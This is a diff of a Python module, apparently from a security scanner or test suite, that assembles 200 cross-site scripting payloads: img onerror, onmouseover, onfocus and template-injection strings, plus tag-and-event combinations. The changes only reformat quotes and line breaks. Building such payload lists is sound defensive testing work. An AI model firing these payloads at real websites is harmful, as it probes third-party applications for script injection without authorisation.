@@ -81,7 +81,7 @@ _WHOLE: Final = (
     "<img/src=x/onerror=alert(1)>",
     "<img src=x onerror='alert`1`'>",
     "'\"><img src=x onerror=alert(1)>",
-    "\" onmouseover=alert(1) x=\"",
+    '" onmouseover=alert(1) x="',
     "' autofocus onfocus=alert(1) x='",
     "{{constructor.constructor('alert(1)')()}}",
     "${alert(1)}",
@@ -101,7 +101,17 @@ _WHOLE: Final = (
     "＜script＞alert(1)＜/script＞<img src=x onerror=alert(1)>",
 )
 _TAGS: Final = (
-    *("img src=x", "svg", "body", "video src=x", "audio src=x", "input type=image src=x", "object data=x", "iframe", "details open"),
+    *(
+        "img src=x",
+        "svg",
+        "body",
+        "video src=x",
+        "audio src=x",
+        "input type=image src=x",
+        "object data=x",
+        "iframe",
+        "details open",
+    ),
     *("p", "a href=x", "marquee"),
 )
 _EVENTS: Final = (
@@ -110,6 +120,9 @@ _EVENTS: Final = (
 )
 
 PAYLOADS: Final = tuple(
-    [*_WHOLE, *(f'<{tag} {event.partition(" ")[0]}="{CALL}" {event.partition(" ")[2]}>' for tag, event in product(_TAGS, _EVENTS))][:200]
+    [
+        *_WHOLE,
+        *(f'<{tag} {event.partition(" ")[0]}="{CALL}" {event.partition(" ")[2]}>' for tag, event in product(_TAGS, _EVENTS)),
+    ][:200]
 )
 assert len(set(PAYLOADS)) == 200
